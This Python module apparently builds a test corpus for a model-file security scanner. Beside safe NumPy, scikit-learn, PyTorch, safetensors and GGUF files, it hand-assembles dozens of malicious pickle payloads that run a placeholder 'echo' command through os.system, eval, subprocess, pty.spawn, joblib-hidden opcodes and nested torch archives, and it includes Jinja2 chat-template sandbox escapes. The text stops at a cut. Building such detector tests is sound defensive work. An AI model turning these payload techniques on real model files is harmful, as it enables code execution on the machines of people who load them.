"""A generated corpus of model files for the model scanner's tests and benchmark (benchmarks/model_scan.py).

Unsafe files cover many code-execution routes per format, including callables deny-lists forget; safe
files are real artefacts saved by NumPy, scikit-learn/joblib, safetensors and PyTorch where installed, plus
hand-written GGUF, Keras, ONNX and Hugging Face files. Nothing here is ever unpickled or rendered: the
payloads only name commands (`echo vallum-corpus`), and the tests only scan them.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

COMMAND = "echo vallum-corpus"


@dataclass(frozen=True)
class Sample:
    name: str  # file name inside the corpus folder (a sub-folder for Hugging Face samples)
    unsafe: bool
    kind: str  # format family, for the benchmark's table
    route: str  # what it exercises
    write: Callable[[Path], None]  # writes the sample at the given path


# -- a tiny pickle assembler ------------------------------------------------------------------------------


def g(module: str, name: str) -> bytes:
    """GLOBAL module.name (protocol 0)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def s(text: str) -> bytes:
    """A protocol 0 STRING."""
    return b"S'" + text.replace("\\", "\\\\").replace("'", "\\'").encode() + b"'\n"


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args) with MARK ... TUPLE REDUCE."""
    return func + b"(" + b"".join(args) + b"tR"


def p0(body: bytes) -> bytes:
    return body + b"."


def stack_global_memo(module: str, name: str, arg: str) -> bytes:
    """Protocol 4: module and name pushed, memoised, popped, then fetched back from the memo."""

    def ubin(text: str) -> bytes:
        raw = text.encode()
        return b"\x8c" + bytes([len(raw)]) + raw

    return (
        b"\x80\x04"
        + ubin(module)
        + b"\x94"
        + ubin(name)
        + b"\x94"
        + b"00"
        + b"h\x00h\x01\x93"
        + ubin(arg)
        + b"\x85R."
    )


class Reduce:
    """An object that pickles as func(*args) (how real exploits are written)."""

    def __init__(self, func: Any, args: tuple[Any, ...]) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args


def named_call(module: str, name: str, args: tuple[Any, ...], protocol: int = 2) -> bytes:
    """Protocol >= 2 pickle calling module.name(*args), built with the assembler (no import needed)."""
    body = b"\x80" + bytes([protocol]) + g(module, name)
    body += b"(" + b"".join(_const(a) for a in args) + b"tR."
    return body


def _const(value: Any) -> bytes:
    if value is None:
        return b"N"
    if value is True:
        return b"\x88"
    if value is False:
        return b"\x89"
    if isinstance(value, int):
        return b"J" + struct.pack("<i", value)
    if isinstance(value, str):
        raw = value.encode()
        return b"X" + struct.pack("<I", len(raw)) + raw
    if isinstance(value, bytes):
        return b"B" + struct.pack("<I", len(value)) + value
    if isinstance(value, list):
        return b"](" + b"".join(_const(v) for v in value) + b"e"
    if isinstance(value, dict):
        return b"}(" + b"".join(_const(k) + _const(v) for k, v in value.items()) + b"u"
    raise TypeError(type(value))


def _bytes_writer(data: bytes) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(data)


# -- unsafe pickles -----------------------------------------------------------------------------------------

OS_SYSTEM_P0 = p0(call(g("os", "system"), s(COMMAND)))


def _unsafe_pickles() -> list[Sample]:
    routes: list[tuple[str, str, bytes]] = [
        ("p0_os_system.pkl", "os.system via GLOBAL (protocol 0)", OS_SYSTEM_P0),
        (
            "p0_posix_system.pkl",
            "posix.system, os.system's real home",
            p0(call(g("posix", "system"), s(COMMAND))),
        ),
        (
            "p2_os_system.pkl",
            "os.system via REDUCE (protocol 2)",
            pickle.dumps(Reduce(os.system, (COMMAND,)), 2),
        ),
        (
            "p4_stack_global_memo.pkl",
            "STACK_GLOBAL with names from the memo",
            stack_global_memo("os", "system", COMMAND),
        ),
        (
            "p5_subprocess.pkl",
            "subprocess.check_output (protocol 5)",
            named_call("subprocess", "check_output", (["sh", "-c", COMMAND],), 5),
        ),
        (
            "builtins_eval.pkl",
            "builtins.eval",
            p0(call(g("builtins", "eval"), s(f"__import__('os').system('{COMMAND}')"))),
        ),
        (
            "builtins_exec.pkl",
            "builtins.exec",
            p0(call(g("builtins", "exec"), s(f"import os; os.system('{COMMAND}')"))),
        ),
        (
            "py2_builtin_eval.pkl",
            "__builtin__.eval (Python 2 name)",
            p0(call(g("__builtin__", "eval"), s("1+1"))),
        ),
        (
            "getattr_chain.pkl",
            "builtins.getattr(__import__('os'), 'system')",
            p0(
                call(
                    call(g("builtins", "getattr"), call(g("builtins", "__import__"), s("os")), s("system")),
                    s(COMMAND),
                )
            ),
        ),
        (
            "importlib_chain.pkl",
            "importlib.import_module then getattr",
            p0(
                call(
                    call(
                        g("builtins", "getattr"), call(g("importlib", "import_module"), s("os")), s("system")
                    ),
                    s(COMMAND),
                )
            ),
        ),
        ("runpy.pkl", "runpy.run_path", p0(call(g("runpy", "run_path"), s("/tmp/payload.py")))),
        (
            "functools_partial.pkl",
            "functools.partial(eval, ...)()",
            p0(call(call(g("functools", "partial"), g("builtins", "eval"), s("1+1")))),
        ),
        (
            "operator_methodcaller.pkl",
            "operator.methodcaller('system') on posixpath.os (no os import)",
            p0(call(call(g("operator", "methodcaller"), s("system"), s(COMMAND)), g("posixpath", "os"))),
        ),
        (
            "operator_attrgetter.pkl",
            "operator.attrgetter('system')(posixpath.os)",
            p0(call(call(call(g("operator", "attrgetter"), s("system")), g("posixpath", "os")), s(COMMAND))),
        ),
        (
            "nested_pickle.pkl",
            "pickle.loads of an embedded pickle",
            pickle.dumps(Reduce(pickle.loads, (OS_SYSTEM_P0,)), 4),
        ),
        ("inst_opcode.pkl", "INST opcode", b"(" + s(COMMAND) + b"ios\nsystem\n."),
        ("obj_opcode.pkl", "OBJ opcode", b"(" + g("os", "system") + s(COMMAND) + b"o."),
        (
            "newobj_opcode.pkl",
            "NEWOBJ of subprocess.Popen",
            b"\x80\x02" + g("subprocess", "Popen") + b"(" + _const(["sh", "-c", COMMAND]) + b"t\x81.",
        ),
        (
            "newobj_ex_opcode.pkl",
            "NEWOBJ_EX of subprocess.Popen",
            b"\x80\x04" + g("subprocess", "Popen") + b"(" + _const(["sh", "-c", COMMAND]) + b"t}\x92.",
        ),
        (
            "build_setstate.pkl",
            "BUILD on a class whose __setstate__ is not vetted",
            b"\x80\x02" + g("__main__", "Trojan") + b")\x81}(" + _const("cmd") + _const(COMMAND) + b"ub.",
        ),
        (
            "build_monkeypatch.pkl",
            "BUILD on an allowed global itself (monkey-patching)",
            g("collections", "OrderedDict") + b"(N}" + s("update") + s("x") + b"stb.",
        ),
        (
            "ext_opcode.pkl",
            "EXT1 (copyreg extension registry)",
            b"\x80\x02\x82\x01(" + _const(COMMAND) + b"tR.",
        ),
        (
            "dynamic_stack_global.pkl",
            "STACK_GLOBAL whose name comes from a call of allowed builtins.str",
            b"\x80\x04"
            + _const("os")
            + call(g("builtins", "str"), s("system"))
            + b"\x93"
            + _const(COMMAND)
            + b"\x85R.",
        ),
        (
            "pydoc_locate.pkl",
            "pydoc.locate (forgotten by deny-lists)",
            p0(call(call(g("pydoc", "locate"), s("os.system")), s(COMMAND))),
        ),
        (
            "timeit.pkl",
            "timeit.timeit runs a statement",
            p0(call(g("timeit", "timeit"), s(f"__import__('os').system('{COMMAND}')"))),
        ),
        (
            "cprofile_run.pkl",
            "cProfile.run runs a statement",
            p0(call(g("cProfile", "run"), s(f"__import__('os').system('{COMMAND}')"))),
        ),
        (
            "numpy_runstring.pkl",
            "numpy.testing._private.utils.runstring",
            p0(
                call(
                    g("numpy.testing._private.utils", "runstring"),
                    s(f"import os; os.system('{COMMAND}')"),
                    b"}",
                )
            ),
        ),
        ("pty_spawn.pkl", "pty.spawn", p0(call(g("pty", "spawn"), s("sh")))),
        (
            "ctypes_cdll.pkl",
            "ctypes.CDLL loads native code",
            p0(call(g("ctypes", "CDLL"), s("/tmp/payload.so"))),
        ),
        (
            "imaplib_stream.pkl",
            "imaplib.IMAP4_stream runs a command",
            p0(call(g("imaplib", "IMAP4_stream"), s(COMMAND))),
        ),
        (
            "uuid_command.pkl",
            "uuid._get_command_stdout",
            p0(call(g("uuid", "_get_command_stdout"), s("sh"), s("-c"), s(COMMAND))),
        ),
        (
            "doctest_debug.pkl",
            "doctest.debug_script",
            p0(call(g("doctest", "debug_script"), s(f"import os; os.system('{COMMAND}')"))),
        ),
        ("pdb_run.pkl", "pdb.run", p0(call(g("pdb", "run"), s(f"import os; os.system('{COMMAND}')")))),
        (
            "shutil_rmtree.pkl",
            "shutil.rmtree (destructive, no code)",
            p0(call(g("shutil", "rmtree"), s("/tmp/vallum-corpus-nothing"))),
        ),
        ("webbrowser.pkl", "webbrowser.open", p0(call(g("webbrowser", "open"), s("http://127.0.0.1:9/")))),
        (
            "numpy_load.pkl",
            "numpy.load(allow_pickle=True) of another file",
            named_call("numpy", "load", ("/tmp/payload.npy", None, True), 2),
        ),
        (
            "joblib_load.pkl",
            "joblib.load of another file",
            named_call("joblib", "load", ("/tmp/payload.pkl",), 2),
        ),
        (
            "torch_hub.pkl",
            "torch.hub.load fetches code",
            named_call("torch.hub", "load", ("evil/repo", "model"), 2),
        ),
        (
            "pip_main.pkl",
            "pip installs a package",
            named_call("pip._internal.cli.main", "main", (["install", "evil"],), 2),
        ),
        (
            "unknown_package.pkl",
            "a callable from an unknown package",
            named_call("evil_pkg.payload", "run", (COMMAND,), 2),
        ),
        ("main_class.pkl", "a custom class from __main__", named_call("__main__", "Exploit", (), 2)),
        ("codecs_loads.pkl", "protocol 2 bytes via _codecs.encode into pickle.loads", _codecs_nested()),
        ("gzip_pickle.pkl.gz", "gzip-compressed pickle", gzip.compress(OS_SYSTEM_P0)),
        ("joblib_hidden.joblib", "opcodes hidden as joblib array bytes", _joblib_hidden_payload()),
        (
            "torch_load_from_bytes.pkl",
            "torch.storage._load_from_bytes of an unsafe archive",
            _load_from_bytes_payload(),
        ),
        (
            "second_pickle.pkl",
            "a second pickle after the first STOP",
            pickle.dumps(1, 4) + pickle.dumps(Reduce(os.system, (COMMAND,)), 4),
        ),
    ]
    return [Sample(name, True, "pickle", route, _bytes_writer(data)) for name, route, data in routes]


def _codecs_nested() -> bytes:
    inner = OS_SYSTEM_P0.decode("latin-1")
    return (
        b"\x80\x02"
        + g("pickle", "loads")
        + b"("
        + call(g("_codecs", "encode"), _const(inner), _const("latin1"))
        + b"tR."
    )


def _joblib_hidden_payload() -> bytes:
    """A NumpyArrayWrapper whose "array bytes" are opcodes: joblib skips them, pickle.load runs them."""
    payload = call(g("os", "system"), s(COMMAND)) + b"0"  # ... and POP, leaving the stack as it was
    dtype = (
        call(g("numpy", "dtype"), s("u1"), b"\x89\x88")
        + b"(K\x03"
        + s("|")
        + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    )
    state = (
        b"}("
        + s("subclass")
        + g("numpy", "ndarray")
        + s("shape")
        + b"(J"
        + struct.pack("<i", len(payload))
        + b"t"
    )
    state += s("order") + s("C") + s("dtype") + dtype + s("allow_mmap") + b"\x89u"
    return (
        b"\x80\x02" + g("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b" + payload + b"."
    )


def _torch_zip(data_pkl: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", data_pkl)
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/version", "3\n")
    return buf.getvalue()


def _load_from_bytes_payload() -> bytes:
    inner = _torch_zip(pickle.dumps(Reduce(os.system, (COMMAND,)), 2))
    return b"\x80\x04" + g("torch.storage", "_load_from_bytes") + b"(" + _const(inner) + b"tR."


# -- NumPy -----------------------------------------------------------------------------------------------


def npy_with_pickle(payload: bytes, shape: tuple[int, ...] = (1,)) -> bytes:
    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(buf, {"descr": "|O", "fortran_order": False, "shape": shape})
    return buf.getvalue() + payload


def _npy(array: np.ndarray[Any, Any], allow_pickle: bool = False) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        with path.open("wb") as handle:
            np.save(handle, array, allow_pickle=allow_pickle)

    return write


def _npz(arrays: dict[str, Any], compressed: bool) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        with path.open("wb") as handle:
            (np.savez_compressed if compressed else np.savez)(handle, **arrays)

    return write


def _npz_with_member(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        with z.open("weights.npy", "w") as member:
            np.save(member, np.arange(10.0))
        z.writestr(name, data)
    return buf.getvalue()


def _numpy_samples() -> list[Sample]:
    rng = np.random.default_rng(0)
    structured = np.zeros(4, dtype=[("a", "<f4"), ("b", "<i8", (2,))])
    return [
        Sample("object_array_evil.npy", True, "numpy", "object array whose pickle calls os.system",
               _bytes_writer(npy_with_pickle(pickle.dumps(Reduce(os.system, (COMMAND,)), 3)))),
        Sample("object_member_evil.npz", True, "numpy", "npz member: object array calling eval",
               _bytes_writer(_npz_with_member("evil.npy", npy_with_pickle(pickle.dumps(Reduce(eval, ("1+1",)), 3))))),
        Sample("float32.npy", False, "numpy", "float32 matrix", _npy(rng.random((64, 32), dtype=np.float32))),
        Sample("int64_fortran.npy", False, "numpy", "Fortran-ordered int64", _npy(np.asfortranarray(np.arange(60).reshape(6, 10)))),
        Sample("structured.npy", False, "numpy", "structured dtype", _npy(structured)),
        Sample("scalar.npy", False, "numpy", "0-d array", _npy(np.array(3.5))),
        Sample("empty.npy", False, "numpy", "empty array", _npy(np.zeros((0, 3)))),
        Sample("strings_object.npy", False, "numpy", "object array of strings (allow_pickle, nothing unsafe)",
               _npy(np.array(["a", "b", None], dtype=object), allow_pickle=True)),
        Sample("arrays.npz", False, "numpy", "npz", _npz({"w": rng.random((16, 16)), "b": np.zeros(16)}, False)),
        Sample("arrays_compressed.npz", False, "numpy", "compressed npz", _npz({"w": rng.random((16, 16)), "i": np.arange(5)}, True)),
    ]  # fmt: skip


# -- scikit-learn / joblib -------------------------------------------------------------------------------


def _sklearn_samples() -> list[Sample]:
    try:
        import joblib
        from sklearn.cluster import KMeans
        from sklearn.compose import ColumnTransformer
        from sklearn.decomposition import PCA
        from sklearn.ensemble import (
            GradientBoostingRegressor,
            HistGradientBoostingClassifier,
            IsolationForest,
            RandomForestClassifier,
        )
        from sklearn.feature_extraction.text import TfidfVectorizer
        from sklearn.linear_model import LogisticRegression
        from sklearn.neighbors import KNeighborsClassifier
        from sklearn.neural_network import MLPClassifier
        from sklearn.pipeline import make_pipeline
        from sklearn.preprocessing import FunctionTransformer, OneHotEncoder, StandardScaler
        from sklearn.svm import SVC
    except ImportError:
        return []
    rng = np.random.default_rng(1)
    x = rng.random((80, 4))
    y = (x[:, 0] + x[:, 1] > 1).astype(int)
    texts = ["good model", "bad pickle", "safe tensors", "unsafe code"] * 10
    labels = [1, 0, 1, 0] * 10

    def fitted() -> dict[str, Any]:
        return {
            "logreg": LogisticRegression().fit(x, y),
            "forest": RandomForestClassifier(n_estimators=8, random_state=0).fit(x, y),
            "gbr": GradientBoostingRegressor(n_estimators=10).fit(x, x[:, 2]),
            "svc_pipeline": make_pipeline(StandardScaler(), SVC(probability=True, random_state=0)).fit(x, y),
            "kmeans": KMeans(n_clusters=3, n_init=2, random_state=0).fit(x),
            "histgb": HistGradientBoostingClassifier(max_iter=10).fit(x, y),
            "tfidf_logreg": make_pipeline(TfidfVectorizer(), LogisticRegression()).fit(texts, labels),
            "knn": KNeighborsClassifier(algorithm="kd_tree").fit(x, y),
            "mlp": MLPClassifier(hidden_layer_sizes=(8,), max_iter=50, random_state=0).fit(x, y),
            "pca": PCA(n_components=2).fit(x),
            "column_onehot": ColumnTransformer([("oh", OneHotEncoder(), [0])]).fit(
                np.array([["a"], ["b"], ["a"]])
            ),
            "isolation": IsolationForest(n_estimators=10, random_state=0).fit(x),
        }

    cache: dict[str, Any] = {}

    def model(name: str) -> Any:
        if not cache:
            import warnings

            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                cache.update(fitted())
        return cache[name]

    def pickled(name: str, protocol: int) -> Callable[[Path], None]:
        return lambda path: path.write_bytes(pickle.dumps(model(name), protocol))

    def dumped(name: str, compress: int = 0) -> Callable[[Path], None]:
        return lambda path: joblib.dump(model(name), path, compress=compress)

    out: list[Sample] = []
    names = ["logreg", "forest", "gbr", "svc_pipeline", "kmeans", "histgb", "tfidf_logreg", "knn", "mlp", "pca",
             "column_onehot", "isolation"]  # fmt: skip
    for i, name in enumerate(names):
        out.append(
            Sample(
                f"sk_{name}.pkl",
                False,
                "pickle",
                f"scikit-learn {name}, pickle",
                pickled(name, (2, 4, 5)[i % 3]),
            )
        )
        out.append(Sample(f"sk_{name}.joblib", False, "joblib", f"scikit-learn {name}, joblib", dumped(name)))
    out.append(Sample("sk_forest_z3.joblib", False, "joblib", "joblib compress=3", dumped("forest", 3)))
    out.append(
        Sample(
            "sk_logreg_gz.joblib",
            False,
            "joblib",
            "joblib gzip",
            lambda p: joblib.dump(model("logreg"), p, compress=("gzip", 3)),
        )
    )
    out.append(
        Sample(
            "sk_function_transformer.joblib",
            True,
            "joblib",
            "FunctionTransformer(func=os.system), joblib",
            lambda p: joblib.dump(FunctionTransformer(func=os.system), p),
        )
    )
    out.append(
        Sample(
            "sk_function_transformer_z.joblib",
            True,
            "joblib",
            "FunctionTransformer(func=eval), joblib compressed",
            lambda p: joblib.dump(FunctionTransformer(func=eval), p, compress=3),
        )
    )
    out.append(
        Sample(
            "object_array_evil.joblib",
            True,
            "joblib",
            "joblib object array holding os.system",
            lambda p: joblib.dump(np.array([Reduce(os.system, (COMMAND,))], dtype=object), p),
        )
    )
    return out  # fmt: skip


# -- safetensors -------------------------------------------------------------------------------------------


def safetensors_bytes(
    tensors: dict[str, np.ndarray[Any, Any]], metadata: dict[str, str] | None = None
) -> bytes:
    """The safetensors format written by hand: 8-byte header length, JSON header, data."""
    names = {
        np.dtype("float32"): "F32",
        np.dtype("float16"): "F16",
        np.dtype("int64"): "I64",
        np.dtype("uint8"): "U8",
    }
    header: dict[str, Any] = {}
    data = b""
    for name, array in tensors.items():
        raw = np.ascontiguousarray(array).astype(array.dtype.newbyteorder("<")).tobytes()
        header[name] = {
            "dtype": names[array.dtype],
            "shape": list(array.shape),
            "data_offsets": [len(data), len(data) + len(raw)],
        }
        data += raw
    if metadata:
        header["__metadata__"] = metadata
    text = json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + data


def _safetensors_samples() -> list[Sample]:
    rng = np.random.default_rng(2)
    out = [
        Sample("by_hand.safetensors", False, "safetensors", "written by hand",
               _bytes_writer(safetensors_bytes({"w": rng.random((8, 8)).astype(np.float32), "b": np.zeros(8, np.float16)}, {"format": "pt"}))),
        Sample("safetensors_trailing_pickle.safetensors", True, "safetensors", "a pickle appended after the tensors (polyglot)",
               _bytes_writer(safetensors_bytes({"w": np.zeros(4, np.float32)}) + OS_SYSTEM_P0)),
    ]  # fmt: skip
    try:
        from safetensors.numpy import save_file
    except ImportError:
        return out
    out.append(Sample("lib.safetensors", False, "safetensors", "written by the safetensors package",
                      lambda p: save_file({"emb": rng.random((32, 16)).astype(np.float32), "ids": np.arange(4)}, str(p))))  # fmt: skip
    return out


# -- PyTorch ---------------------------------------------------------------------------------------------


def _torch_samples() -> list[Sample]:
    try:
        import torch
    except ImportError:
        return []

    def net() -> Any:
        torch.manual_seed(0)
        return torch.nn.Sequential(
            torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.LayerNorm(8), torch.nn.Linear(8, 2)
        )

    def checkpoint() -> dict[str, Any]:
        model = net()
        optimizer = torch.optim.AdamW(model.parameters())
        model(torch.ones(2, 4)).sum().backward()
        optimizer.step()
        return {"model": model.state_dict(), "optimizer": optimizer.state_dict(), "epoch": 3, "loss": 0.25}

    def save(obj: Callable[[], Any], legacy: bool = False) -> Callable[[Path], None]:
        return lambda path: torch.save(obj(), path, _use_new_zipfile_serialization=not legacy)

    def scripted(path: Path) -> None:
        torch.jit.script(net()).save(str(path))

    return [
        Sample("torch_state_dict.pt", False, "pytorch", "state_dict (zip)", save(lambda: net().state_dict())),
        Sample("torch_checkpoint.pt", False, "pytorch", "checkpoint with optimizer state", save(checkpoint)),
        Sample("torch_legacy.pt", False, "pytorch", "legacy (non-zip) state_dict", save(lambda: net().state_dict(), legacy=True)),
        Sample("torch_whole_model.pt", False, "pytorch", "torch.save(model) of standard layers", save(net)),
        Sample("torch_bf16.bin", False, "pytorch", "bfloat16 tensors, .bin name", save(lambda: {"w": torch.ones(4, 4, dtype=torch.bfloat16)})),
        Sample("torchscript.pt", False, "pytorch", "TorchScript archive", scripted),
        Sample("torch_os_system.pt", True, "pytorch", "data.pkl calls os.system", save(lambda: Reduce(os.system, (COMMAND,)))),
        Sample("torch_legacy_eval.pt", True, "pytorch", "legacy file calling eval", save(lambda: Reduce(eval, ("1+1",)), legacy=True)),
        Sample("torch_nested_load.pt", True, "pytorch", "tensor rebuilt from an unsafe nested archive",
               lambda p: p.write_bytes(_torch_zip(_load_from_bytes_payload()))),
    ]  # fmt: skip


# -- GGUF and chat templates --------------------------------------------------------------------------------

LLAMA3_TEMPLATE = (
    "{{- bos_token }}\n{%- if custom_tools is defined %}{%- set tools = custom_tools %}{%- endif %}\n"
    "{%- if not tools_in_user_message is defined %}{%- set tools_in_user_message = true %}{%- endif %}\n"
    '{%- if not date_string is defined %}{%- set date_string = "26 Jul 2024" %}{%- endif %}\n'
    "{%- if messages[0]['role'] == 'system' %}{%- set system_message = messages[0]['content']|trim %}"
    '{%- set messages = messages[1:] %}{%- else %}{%- set system_message = "" %}{%- endif %}\n'
    '{{- "<|start_header_id|>system<|end_header_id|>\\n\\n" }}'
    '{%- if tools is not none %}{{- "Environment: ipython\\n" }}{%- endif %}'
    '{{- "Today Date: " + date_string + "\\n\\n" }}{{- system_message }}{{- "<|eot_id|>" }}\n'
    "{%- for message in messages %}\n"
    "  {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls' in message) %}\n"
    "    {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' }}\n"
    "  {%- elif 'tool_calls' in message %}\n"
    "    {%- set tool_call = message.tool_calls[0].function %}\n"
    "    {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' -}}\n"
    '    {{- \'{"name": "\' + tool_call.name + \'", \' }}{{- \'"parameters": \' }}{{- tool_call.arguments | tojson }}{{- "}" }}\n'
    '    {{- "<|eot_id|>" }}\n'
    "  {%- else %}\n"
    '    {{- "<|start_header_id|>ipython<|end_header_id|>\\n\\n" }}'
    "    {%- if message.content is mapping or message.content is iterable %}{{- message.content | tojson }}"
    '{%- else %}{{- message.content }}{%- endif %}{{- "<|eot_id|>" }}\n'
    "  {%- endif %}\n{%- endfor %}\n"
    "{%- if add_generation_prompt %}{{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{%- endif %}\n"
)

QWEN_TEMPLATE = (
    "{%- if tools %}\n    {{- '<|im_start|>system\\n' }}\n"
    "    {%- if messages[0]['role'] == 'system' %}{{- messages[0]['content'] }}"
    "{%- else %}{{- 'You are a helpful assistant.' }}{%- endif %}\n"
    '    {{- "\\n\\n# Tools\\n\\n<tools>" }}\n'
    '    {%- for tool in tools %}{{- "\\n" }}{{- tool | tojson }}{%- endfor %}\n'
    '    {{- "\\n</tools><|im_end|>\\n" }}\n'
    "{%- else %}\n"
    "    {%- if messages[0]['role'] == 'system' %}{{- '<|im_start|>system\\n' + messages[0]['content'] + '<|im_end|>\\n' }}\n"
    "    {%- endif %}\n{%- endif %}\n"
    "{%- for message in messages %}\n"
    '    {%- if (message.role == "user") or (message.role == "system" and not loop.first) %}\n'
    "        {{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>' + '\\n' }}\n"
    '    {%- elif message.role == "assistant" %}\n'
    "        {{- '<|im_start|>' + message.role }}\n"
    "        {%- if message.content %}{{- '\\n' + message.content }}{%- endif %}\n"
    "        {%- for tool_call in message.tool_calls %}\n"
    "            {%- if tool_call.function is defined %}{%- set tool_call = tool_call.function %}{%- endif %}\n"
    '            {{- \'\\n<tool_call>\\n{"name": "\' }}{{- tool_call.name }}'
    "{{- '\", \"arguments\": ' }}{{- tool_call.arguments | tojson }}{{- '}\\n</tool_call>' }}\n"
    "        {%- endfor %}\n        {{- '<|im_end|>\\n' }}\n"
    '    {%- elif message.role == "tool" %}\n'
    "        {%- if (loop.index0 == 0) or (messages[loop.index0 - 1].role != \"tool\") %}{{- '<|im_start|>user' }}{%- endif %}\n"
    "        {{- '\\n<tool_response>\\n' }}{{- message.content }}{{- '\\n</tool_response>' }}\n"
    "    {%- endif %}\n{%- endfor %}\n"
    "{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}\n"
)

MISTRAL_TEMPLATE = (
    "{{ bos_token }}{% for message in messages %}"
    "{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
    "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}"
    "{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}"
)

GEMMA_TEMPLATE = (
    "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}{% endif %}"
    "{% for message in messages %}{% if (message['role'] == 'assistant') %}{% set role = 'model' %}"
    "{% else %}{% set role = message['role'] %}{% endif %}"
    "{{ '<start_of_turn>' + role + '\n' + message['content'] | trim + '<end_of_turn>\n' }}{% endfor %}"
    "{% if add_generation_prompt %}{{'<start_of_turn>model\n'}}{% endif %}"
    "{% generation %}{{ '' }}{% endgeneration %}"
)

EVIL_TEMPLATES = {
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for m in messages %}{{ m.content }}{% endfor %}",
    "lipsum_globals": "{{ lipsum.__globals__['os'].popen('" + COMMAND + "').read() }}",
    "cycler_init": "{{ cycler.__init__.__globals__.os.popen('" + COMMAND + "').read() }}",
    "attr_filter": "{{ (messages|attr('__class__')|attr('__mro__'))[1] }}",
    "dynamic_attr": "{% set n = '__cla' ~ 'ss__' %}{{ messages|attr(n) }}",
    "format_string": "{{ '{0.__class__.__mro__}'.format(messages) }}",
    "item_globals": "{{ self['_TemplateReference__context'] }}",
    "map_attribute": "{{ messages|map(attribute='__class__')|list }}",
}


def gguf_bytes(
    metadata: list[tuple[str, int, Any]], tensors: int = 1, lengths_past_end: bool = False
) -> bytes:
    """GGUF v3 written by hand: header, metadata (key, value type, value), tensor infos, aligned data."""

    def string(text: str) -> bytes:
        raw = text.encode()
        return struct.pack("<Q", len(raw) + (1 << 40 if lengths_past_end else 0)) + raw

    def value(vtype: int, v: Any) -> bytes:
        if vtype == 8:
            return string(v)
        if vtype == 4:
            return struct.pack("<I", v)
        if vtype == 6:
            return struct.pack("<f", v)
        if vtype == 9:
            item_type, items = v
            return struct.pack("<IQ", item_type, len(items)) + b"".join(value(item_type, i) for i in items)
        raise ValueError(vtype)

    out = b"GGUF" + struct.pack("<IQQ", 3, tensors, len(metadata))
    for key, vtype, v in metadata:
        out += string(key) + struct.pack("<I", vtype) + value(vtype, v)
    for i in range(tensors):
        out += (
            string(f"blk.{i}.weight")
            + struct.pack("<I", 2)
            + struct.pack("<QQ", 4, 8)
            + struct.pack("<IQ", 0, i * 128)
        )
    out += b"\x00" * (-len(out) % 32)
    return out + b"\x00" * (128 * tensors)


def _gguf_meta(template: str | None) -> list[tuple[str, int, Any]]:
    meta: list[tuple[str, int, Any]] = [
        ("general.architecture", 8, "llama"),
        ("general.name", 8, "corpus-model"),
        ("llama.context_length", 4, 2048),
        ("tokenizer.ggml.tokens", 9, (8, ["<s>", "</s>", "hello", "world"])),
        ("tokenizer.ggml.scores", 9, (6, [0.0, 0.0, -1.0, -2.0])),
    ]
    if template is not None:
        meta.append(("tokenizer.chat_template", 8, template))
    return meta


def _template_samples() -> list[Sample]:
    out = [
        Sample("llama3.gguf", False, "gguf", "GGUF with a Llama 3 chat template", _bytes_writer(gguf_bytes(_gguf_meta(LLAMA3_TEMPLATE)))),
        Sample("qwen.gguf", False, "gguf", "GGUF with a Qwen chat template", _bytes_writer(gguf_bytes(_gguf_meta(QWEN_TEMPLATE)))),
        Sample("no_template.gguf", False, "gguf", "GGUF without a template", _bytes_writer(gguf_bytes(_gguf_meta(None), tensors=3))),
    ]  # fmt: skip
    for label, template in EVIL_TEMPLATES.items():
        out.append(
            Sample(
                f"template_{label}.gguf",
                True,
                "gguf",
                f"GGUF chat template: {label}",
                _bytes_writer(gguf_bytes(_gguf_meta(template))),
            )
        )
    out.append(
        Sample(
            "named_template_evil.gguf",
            True,
            "gguf",
            "GGUF named template (tokenizer.chat_template.tool_use)",
            _bytes_writer(
                gguf_bytes(
                    [
                        *_gguf_meta(QWEN_TEMPLATE),
                        ("tokenizer.chat_template.tool_use", 8, EVIL_TEMPLATES["cycler_init"]),
                    ]
                )
            ),
        )
    )
    for label, template in (
        ("llama3", LLAMA3_TEMPLATE),
        ("qwen", QWEN_TEMPLATE),
        ("mistral", MISTRAL_TEMPLATE),
        ("gemma", GEMMA_TEMPLATE),
    ):
        out.append(
            Sample(
                f"hf_{label}/tokenizer_config.json",
                False,
                "template",
                f"tokenizer_config.json, {label} template",
                _bytes_writer(json.dumps({"bos_token": "<s>", "chat_template": template}).encode()),
            )
        )
    out.append(
        Sample(
            "hf_evil_tokenizer/tokenizer_config.json",
            True,
            "template",
            "tokenizer_config.json with a sandbox escape",
